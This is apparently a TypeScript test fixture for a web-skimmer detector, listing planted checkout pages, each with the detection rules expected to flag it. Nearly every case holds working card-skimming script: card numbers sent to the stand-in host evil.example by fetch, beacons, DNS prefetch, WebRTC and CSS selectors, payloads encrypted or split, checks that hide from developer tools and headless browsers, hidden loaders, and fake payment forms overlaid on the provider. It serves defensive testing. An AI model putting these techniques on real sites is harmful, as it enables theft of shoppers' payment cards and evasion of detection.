import { generateKeyPairSync } from 'node:crypto';
import { EVIL, RAW_FORM, STRIPE_FRAME, type PageCase } from './page-case.ts';

const LEAVES = ['page-card-data-leaves evil.example'];
const NUMBER = "document.getElementById('number')";
const SEND = `const send = (d) => fetch('${EVIL}/c', { method: 'POST', mode: 'no-cors', body: d });`;
const AT_CHANGE = (act: string): string =>
  `${NUMBER}.addEventListener('input', () => { const v = ${NUMBER}.value; ` +
  `if (v.length > 15) { ${act} } });`;
const LINK = (rel: string, href: string): string =>
  "const l = document.createElement('link'); " +
  `l.rel = '${rel}'; l.href = ${href}; document.head.append(l);`;
/** A key that only the attacker's server could undo. */
const AES =
  "const seal = async (v) => { const k = await crypto.subtle.generateKey({ name: 'AES-GCM', length: " +
  "256 }, true, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); return " +
  "crypto.subtle.encrypt({ name: 'AES-GCM', iv }, k, new TextEncoder().encode(v)); };";
const RSA_KEY: string = generateKeyPairSync('rsa', { modulusLength: 2048 })
  .publicKey.export({ type: 'spki', format: 'der' })
  .toString('base64');
const FAKE_FORM =
  "document.body.insertAdjacentHTML('afterbegin', '<form action=/retry method=post><p>Payment " +
  'failed, please try again</p><label>Card number <input name=cardnumber></label><label>CVC <input ' +
  "name=cvc></label></form>');";
const OVER = 'position:absolute;left:0;top:0;width:400px;height:60px;z-index:9';

function onForm(name: string, script: string, expected: readonly string[] = LEAVES): PageCase {
  return { name, body: `${RAW_FORM}<script>${script}</script>`, expected };
}

function onFrame(name: string, script: string, expected: readonly string[]): PageCase {
  return { name, body: `${STRIPE_FRAME}<script>${script}</script>`, expected };
}

/** What skimmers send with, when, and after which look around. */
const BY_ANOTHER_WAY: readonly PageCase[] = [
  onForm('by a prefetch link', AT_CHANGE(LINK('prefetch', `'${EVIL}/f?c=' + v`))),
  onForm(
    'by a name to look up',
    AT_CHANGE(`${LINK('dns-prefetch', "'//c' + v + '.evil.example'")} l.remove();`),
  ),
  onForm(
    'by a name to connect to',
    AT_CHANGE(`${LINK('preconnect', "'https://c' + v + '.evil.example'")} l.remove();`),
  ),
  onForm('by an event stream', AT_CHANGE(`new EventSource('${EVIL}/e?c=' + v);`)),
  onForm(
    'by a message to a frame of the attacker',
    `const f = document.createElement('iframe'); f.src = '${EVIL}/relay'; f.hidden = true; ` +
      `document.body.append(f); ${AT_CHANGE("f.contentWindow.postMessage(v, '*')")}`,
  ),
  onForm(
    'by a WebRTC data channel',
    AT_CHANGE(
      "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.evil.example:3478' }] }); " +
        "const d = p.createDataChannel('d'); d.onopen = () => d.send(v); " +
        'p.createOffer().then((o) => p.setLocalDescription(o));',
    ),
    ['page-typing-sends'],
  ),
  onForm(
    'by the name of a WebRTC server',
    AT_CHANGE(
      "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:c' + v + '.evil.example' }] }); " +
        "p.createDataChannel('d'); p.createOffer().then((o) => p.setLocalDescription(o));",
    ),
  ),
  onForm(
    'by CSS attribute selectors',
    "const s = document.createElement('style'); s.textContent = [...'0123456789'].flatMap((a) => " +
      "[...'0123456789'].map((b) => '#number[value$=\"' + a + b + '\"] { background: " +
      `url(${EVIL}/k' + a + b + ') }')).join(''); document.head.append(s); ` +
      `${NUMBER}.addEventListener('input', () => ${NUMBER}.setAttribute('value', ${NUMBER}.value));`,
    ['page-typing-sends'],
  ),
  {
    name: 'by CSS attribute selectors of a style sheet, in a form that mirrors its values',
    body:
      `<link rel="stylesheet" href="${EVIL}/theme.css">${RAW_FORM}<script>${NUMBER}.` +
      `addEventListener('input', (e) => e.target.setAttribute('value', e.target.value));</script>`,
    expected: ['page-typing-sends'],
  },
  onForm(
    'by a service worker',
    "navigator.serviceWorker.register('/relay-worker.js'); " +
      AT_CHANGE("fetch('/check', { method: 'POST', body: v });"),
  ),
  onForm(
    'by a service worker that comes late',
    "navigator.serviceWorker.register('/relay-worker.js?after=1500'); " +
      AT_CHANGE("fetch('/check', { method: 'POST', body: v });"),
  ),
  onForm(
    'by a beacon when the page is hidden',
    "addEventListener('visibilitychange', () => document.visibilityState === 'hidden' && " +
      `navigator.sendBeacon('${EVIL}/b', ${NUMBER}.value));`,
  ),
  onForm(
    'by a beacon when the page is left',
    `addEventListener('pagehide', () => navigator.sendBeacon('${EVIL}/b', ${NUMBER}.value));`,
  ),
  onForm(
    'in pieces of base64',
    SEND + AT_CHANGE('for (const p of btoa(v).match(/.{1,5}/g)) send(p);'),
  ),
  onForm(
    'in pieces of base64 as parameters',
    AT_CHANGE(
      'btoa(v).match(/.{1,6}/g).forEach((p, i) => { new Image().src = ' +
        `'${EVIL}/p.gif?i=' + i + '&d=' + encodeURIComponent(p); });`,
    ),
  ),
  onForm('enciphered with AES', `${AES} ${SEND} ${AT_CHANGE('seal(v).then(send);')}`, [
    'page-typing-sends',
  ]),
  onForm(
    'enciphered with RSA',
    `const raw = Uint8Array.from(atob('${RSA_KEY}'), (c) => c.charCodeAt(0)); ${SEND} ${AT_CHANGE(
      "crypto.subtle.importKey('spki', raw, { name: 'RSA-OAEP', hash: 'SHA-256' }, false, " +
        "['encrypt']).then((k) => crypto.subtle.encrypt('RSA-OAEP', k, new TextEncoder().encode(v)))" +
        '.then(send);',
    )}`,
    ['page-typing-sends'],
  ),
  onForm(
    'enciphered with AES, by a timer that listens to nothing',
    `${AES} ${SEND} let last = ''; setInterval(() => { const v = ${NUMBER}.value; if (v.length > 15 ` +
      '&& v !== last) { last = v; seal(v).then(send); } }, 400);',
    ['page-typing-sends'],
  ),
  onForm(
    'XORed with a key of several bytes',
    SEND +
      AT_CHANGE(
        "send(btoa([...v].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'magecart'." +
          "charCodeAt(i % 8))).join('')))",
      ),
    ['page-typing-sends'],
  ),
];

const WITHOUT_LISTENERS: readonly PageCase[] = [
  onForm(
    'read for every frame that is drawn',
    `${SEND} let n = 0; const tick = () => { if (${NUMBER}.value.length > 15 && n++ < 1) ` +
      `send(${NUMBER}.value); requestAnimationFrame(tick); }; tick();`,
  ),
  onForm(
    'read when the document changes',
    `${SEND} new MutationObserver(() => ${NUMBER}.value && send(${NUMBER}.value)).observe(` +
      'document, { subtree: true, childList: true, attributes: true }); setInterval(() => ' +
      'document.body.classList.toggle("t"), 3000);',
  ),
  onForm(
    'keys taken in the capture phase and passed on to nobody',
    `${SEND} document.addEventListener('keydown', (e) => { e.stopImmediatePropagation(); ` +
      "send('k=' + e.key); }, true);",
  ),
  onForm(
    'a getter of the prototype',
    "const d = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); " +
      `${SEND} Object.defineProperty(HTMLInputElement.prototype, 'value', { ...d, get() { const v = ` +
      'd.get.call(this); if (v.length > 15) send(v); return v; } }); ' +
      `${NUMBER}.addEventListener('input', (e) => void e.target.value);`,
  ),
  onForm(
    'a wrapper around fetch',
    `const real = fetch; window.fetch = (u, o) => { if (o?.body) navigator.sendBeacon('${EVIL}/c', ` +
      "o.body); return real(u, o); }; document.getElementById('checkout').addEventListener('submit', " +
      "(e) => { e.preventDefault(); fetch('/pay', { method: 'POST', body: new URLSearchParams(new " +
      'FormData(e.target)).toString() }); });',
  ),
  onForm(
    'a wrapper around XMLHttpRequest',
    'const real = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { ' +
      `navigator.sendBeacon('${EVIL}/c', b); return real.call(this, b); }; ` +
      AT_CHANGE("const x = new XMLHttpRequest(); x.open('POST', '/bin'); x.send(v.slice(0, 16));"),
  ),
  onForm(
    'the form sent elsewhere',
    "document.getElementById('checkout').addEventListener('submit', (e) => { e.target.action = " +
      `'${EVIL}/pay'; });`,
  ),
  onForm(
    'real clicks only',
    `${SEND} document.querySelector('button').addEventListener('mousedown', (e) => e.isTrusted && ` +
      `send(${NUMBER}.value)); `,
  ),
  onForm(
    'a copy for later, sent by the next page',
    AT_CHANGE("sessionStorage.setItem('_ga_s', btoa(v.split('').reverse().join('')));"),
    ['page-card-data-kept'],
  ),
  onForm('the fragment of the address', AT_CHANGE("location.hash = 'k' + btoa(v);"), [
    'page-card-data-kept',
  ]),
];

const IN_HIDING: readonly PageCase[] = [
  onForm('ten minutes after typing', SEND + AT_CHANGE('setTimeout(() => send(v), 600000)')),
  onForm(
    'unless tools of a developer are open',
    'let open = outerWidth - innerWidth > 160 || outerHeight - innerHeight > 200; const e = new ' +
      "Error('x'); Object.defineProperty(e, 'stack', { get: () => { open = true; return ''; } }); " +
      "const i = new Image(); Object.defineProperty(i, 'id', { get: () => { open = true; return ''; " +
      '} }); console.debug(e); console.log(i); const t = performance.now(); debugger; open ||= ' +
      `performance.now() - t > 100; ${SEND} setTimeout(() => { if (!open) { ${AT_CHANGE('send(v)')} } });`,
  ),
  onForm(
    'unless a program drives the browser',
    'const odd = navigator.webdriver || /Headless/.test(navigator.userAgent + JSON.stringify(' +
      'navigator.userAgentData?.brands)) || !navigator.languages.length || outerWidth === 0 || ' +
      `!window.chrome; ${SEND} if (!odd) { ${AT_CHANGE('send(v)')} }`,
  ),
  onForm(
    'only for visitors who come from the shop',
    `${SEND} if (document.referrer.includes('shop.example')) { ${AT_CHANGE('send(v)')} }`,
  ),
  onForm(
    'only at one address',
    `${SEND} if (/shop\\.example\\/p\\d/.test(location.href)) { ${AT_CHANGE('send(v)')} }`,
  ),
  onForm(
    'a module in a data address',
    `import('data:text/javascript,' + encodeURIComponent("${(SEND + AT_CHANGE('send(v)')).replaceAll('"', "'")}"));`,
  ),
  {
    name: 'a script in an image',
    body: `${RAW_FORM}<svg width="1" height="1"><script>${SEND}${AT_CHANGE('send(v)')}</script></svg>`,
    expected: LEAVES,
  },
  onForm(
    'a loader in the icon of the site',
    "fetch('/favicon.png').then((r) => r.text()).then((t) => (0, eval)(t.split('IEND')[1]));",
    [...LEAVES, 'page-evaluated-code'],
  ),
  onForm(
    'a loader from an attribute',
    `document.body.insertAdjacentHTML('beforeend', '<img src=/none onerror="${NUMBER.replaceAll("'", '&quot;')}` +
      `.oninput = (e) => { new Image().src = &quot;${EVIL}/p?&quot; + e.target.value }">');`.replaceAll(
        '"',
        '\\"',
      ),
  ),
];

const BESIDE_FRAMES: readonly PageCase[] = [
  onFrame(
    'a frame without an address that asks for a card',
    "const f = document.createElement('iframe'); f.srcdoc = '<form><input name=cardnumber><input " +
      "name=cvc></form>'; document.body.prepend(f);",
    ['page-fake-card-field'],
  ),
  onFrame(
    'two frames within each other over the provider',
    `const f = document.createElement('iframe'); f.style = '${OVER};border:0'; f.srcdoc = '<iframe ` +
      `srcdoc="<input>" style="width:100%;height:100%;border:0"></iframe>'; ` +
      "document.getElementById('payment').append(f);",
    ['page-overlay'],
  ),
  onFrame(
    'a field over the provider that lets clicks through and takes the focus',
    `const o = document.createElement('input'); o.style = '${OVER};pointer-events:none'; ` +
      "document.getElementById('payment').append(o); addEventListener('blur', () => " +
      'setTimeout(() => o.focus()));',
    ['page-overlay'],
  ),
  onFrame(
    'a form that asks again when the payment failed',
    `document.getElementById('pay').addEventListener('click', () => setTimeout(() => { ${FAKE_FORM} }, ` +
      '900), { once: true });',
    ['page-fake-card-field'],
  ),
  onFrame(
    'the provider hidden, and a form instead',
    `setTimeout(() => { document.getElementById('payment').style.display = 'none'; ${FAKE_FORM} }, 2000);`,
    ['page-card-field-outside-provider'],
  ),
  onFrame(
    'the provider taken away, and a frame of the attacker',
    "document.getElementById('payment').innerHTML = '<iframe " +
      `src="${EVIL}/pay-frame" style="width:400px;height:200px"></iframe>';`,
    ['page-frame-swap'],
  ),
  onFrame(
    'digits that nothing calls a card',
    "document.body.insertAdjacentHTML('afterbegin', '<p>Please enter your card</p><input " +
      'placeholder="0000 0000 0000 0000" inputmode=numeric maxlength=19>\');',
    ['page-fake-card-field'],
  ),
];

/** Nobody meant harm, and the card is gone all the same. */
const CARELESS: readonly PageCase[] = [
  {
    name: 'a session recorder that takes down keys',
    body: `${RAW_FORM}<script src="https://cdn.recorder.example/record.js"></script>`,
    expected: ['page-card-data-leaves recorder.example', 'page-card-listener'],
  },
];

/** Planted attacks after the ways of known skimmers, each with the rules that must find it. */
export const SKIMMER_PAGES: readonly PageCase[] = [
  ...BY_ANOTHER_WAY,
  ...WITHOUT_LISTENERS,
  ...IN_HIDING,
  ...BESIDE_FRAMES,
  ...CARELESS,
];
